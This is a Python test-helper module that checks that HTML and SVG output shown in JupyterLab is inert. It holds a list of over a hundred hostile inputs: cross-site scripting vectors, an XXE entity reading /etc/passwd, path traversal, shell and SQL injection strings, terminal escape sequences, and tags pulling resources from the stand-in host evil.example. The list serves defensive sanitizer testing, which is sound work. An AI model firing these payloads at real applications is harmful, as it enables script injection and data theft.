"""What must be true of every picture, whoever chose the words in it; and words that somebody bad would choose."""

from __future__ import annotations

import base64
import re
import unicodedata
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from typing import Final

TAGS: Final = {
    "div": set(),
    "span": {"title"},
    "img": {"alt", "src", "width", "height"},
    "table": set(),
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": {"scope"},
    "td": set(),
    "details": set(),
    "summary": set(),
    "pre": set(),
    "br": set(),
}
"""Tags that JupyterLab keeps, and their attributes beside `style`."""

VOID: Final = {"img", "br"}
MEDIA: Final = r"data:image/(png|gif|jpeg|webp|svg\+xml);base64,[A-Za-z0-9+/]+={0,2}"
STYLE: Final = re.compile(r"([a-z-]+:[a-z0-9 .,()%-]+;?)*")
SVG_TAGS: Final = {"svg", "style", "g", "path", "rect", "text"}
UNSAFE: Final = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}

HOSTILE: Final = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" style="position:fixed;top:0;left:0;width:100%;height:100%',
    "`onmouseover=alert(1)`",
    "</div></td></tr></table><h1>free</h1>",
    "</pre></details><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</title></style></textarea><svg onload=alert(1)>",
    "</svg><script>alert(1)</script>",
    "</text><foreignObject><body onload=alert(1)></foreignObject>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/spy.png"/></svg>',
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<button data-commandlinker-command="runmenu:run-all" data-commandlinker-args="{}">run</button>',
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/spy.png)",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token autofocus onfocus=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "$$\\href{javascript:alert(1)}{x}$$",
    "{{constructor.constructor('alert(1)')()}}",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31mC1",
    "a\x00b",
    "\r\nfake line",
    "back\x08\x08\x08\x08space",
    "\u202egnp.exe\u202c",
    "\u2066\u2067isolate\u2069",
    "zero\u200b\u200d\ufeffwidth",
    "line\u2028separator\u2029s",
    "\ud800 lone surrogate",
    "\ue000 private \U000e0041 tag",
    "a" + "\u0301" * 500,
    "\U0001f469\u200d\U0001f680 漢字 ﷽",
    "x" * 100_000,
    "<" * 50_000,
    '"' * 50_000,
    "\u202e" * 50_000,
    "\n" * 50_000,
    "\\n \\x1b %s {0} ${x}",
    "../../../../etc/passwd",
    "$(touch /tmp/x); `id`",
    '=HYPERLINK("https://evil.example")',
    # data attributes and names that an application may listen to, or stumble over
    '<div data-commandlinker-command="filebrowser:delete" data-commandlinker-args=\'{"a":1}\'>x</div>',
    '" data-commandlinker-command="notebook:run-all-cells',
    "' data-jupyter-action='x' data-mime-type='text/html",
    "<img name=getElementById><img name=body>",
    "<form name=document><input name=cookie></form>",
    "<a id=defaultView><a id=defaultView name=x>",
    "<iframe name=top src=//evil.example></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.pdf>",
    "<video poster=//evil.example/x.png autoplay><source src=//evil.example/x.mp4></video>",
    "<audio src=//evil.example/x.ogg onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onpageshow=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style>@import url(//evil.example/x.css)</style></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<table background=//evil.example/x.png>",
    "style=background:url(//evil.example/x.png)",
    "expression(alert(1)); -moz-binding:url(//evil.example)",
    "</span><span style='position:fixed;inset:0'>",
    "<!DOCTYPE html><html><head><title>x</title>",
    "<%= 7*7 %> ${7*7} #{7*7} {{7*7}}",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "ipfs://bafkqabiaaebagba/<script>alert(1)</script>",
    "file:///etc/passwd",
    # terminals and text
    "\x1b[6n\x1b[c\x1bZ",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b_Gi=1;AAAA\x1b\\",
    "\x9d0;title\x9c",
    "\x1b[?1049h\x1b[?25l",
    "\x0e\x0f\x07\x7f",
    "a\u0000\u0000b\u0000",
    "\u061c\u200e\u200f\u202a\u202b\u202d",
    "\U000e0001\U000e0061\U000e007f",
    "\ufff9a\ufffab\ufffb",
    "\ufeff\ufffe\uffff",
    "\u2028\u2029\x85\x0b\x0c",
    "%00%0a%0d<script>",
    "'; DROP TABLE receipt; --",
    "{" * 5_000,
    "[[" * 5_000,
    "\\" * 5_000,
    "\x1b[" * 20_000,
    "𒐫" * 5_000,
    "क्षि" * 2_000,
]
"""Payloads, over a hundred: scripts, SVG, breaks of attributes, data attributes, clobbered names, terminals, directions."""


class _Reader(HTMLParser):
    """Reads HTML, and refuses what is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.said: list[str] = []
        self.sources: list[str] = []
        self.alts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name == "style" or name in TAGS[tag], (tag, name)
            assert value is not None
            plain(value)
            if name == "style":
                assert STYLE.fullmatch(value), value
            if name == "src":
                assert re.fullmatch(MEDIA, value), value[:80]
                self.sources.append(value)
            if name == "alt":
                self.alts.append(value)
        if tag == "img":
            assert {"alt", "src"} <= {name for name, _ in attrs}
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        raise AssertionError(f"<{tag}/> with {attrs}")

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        plain(data, keep="\n\t")
        self.said.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")


def inert(html: str) -> _Reader:
    """Return what was read from HTML in which nothing can act, and whose pictures of ours are just as dead."""
    assert len(html) <= 400_000
    reader = _Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    return reader


def inert_svg(svg: str) -> list[str]:
    """Return the texts of an SVG that only draws."""
    root = ET.fromstring(svg)
    said = []
    for node in root.iter():
        name = node.tag.removeprefix("{http://www.w3.org/2000/svg}")
        assert name in SVG_TAGS, name
        for key, value in node.attrib.items():
            assert not key.startswith("on"), key
            assert "href" not in key, key
            assert "url(" not in value, value
        if name == "style":
            assert not re.search(r"url|import|expression", node.text or "")
        elif node.text:
            plain(node.text)
            said.append(node.text)
    return said


def pictures(reader: _Reader) -> list[str]:
    """Return the SVGs among the images."""
    head = "data:image/svg+xml;base64,"
    return [
        base64.b64decode(source.removeprefix(head)).decode() for source in reader.sources if source.startswith(head)
    ]


def plain(text: str, keep: str = "\n") -> None:
    """Fail if a terminal or a browser could act on a character of a text."""
    found = {c for c in text if c not in keep and unicodedata.category(c) in UNSAFE}
    assert not found, found
